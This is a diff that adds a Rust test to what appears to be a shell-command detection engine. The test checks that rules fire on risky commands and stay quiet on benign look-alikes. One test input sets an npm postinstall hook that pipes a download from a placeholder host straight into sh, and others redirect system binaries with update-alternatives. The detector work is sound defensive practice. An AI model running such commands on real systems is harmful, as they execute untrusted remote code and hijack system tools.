@@ -6703,6 +6703,45 @@ fn passwords_in_curl_dns_servers_and_signing() {
     );
 }
 
+/// npm 7–8's `set-script` (its script read by the parser), and the system's alternatives
+/// changed.
+#[test]
+fn npm_set_script_and_alternatives() {
+    let e = engine();
+    let cmd = "npm set-script postinstall 'curl -s https://x.example/i | sh'";
+    expect_fires(
+        &e,
+        &[
+            (cmd, "package-lifecycle-script-set-old"),
+            (cmd, "download-piped-to-shell"),
+            (
+                "update-alternatives --set editor /tmp/x",
+                "alternatives-change",
+            ),
+            (
+                "update-alternatives --install /usr/bin/python python /opt/py/bin/python 100",
+                "alternatives-change",
+            ),
+        ],
+        true,
+    );
+    expect_fires(
+        &e,
+        &[
+            (
+                "npm set-script test jest",
+                "package-lifecycle-script-set-old",
+            ),
+            (
+                "update-alternatives --display editor",
+                "alternatives-change",
+            ),
+            ("update-alternatives --list java", "alternatives-change"),
+        ],
+        false,
+    );
+}
+
 /// A DELETE of one resource is not a DELETE of everything a wildcard names.
 #[test]
 fn http_delete_of_one_resource() {
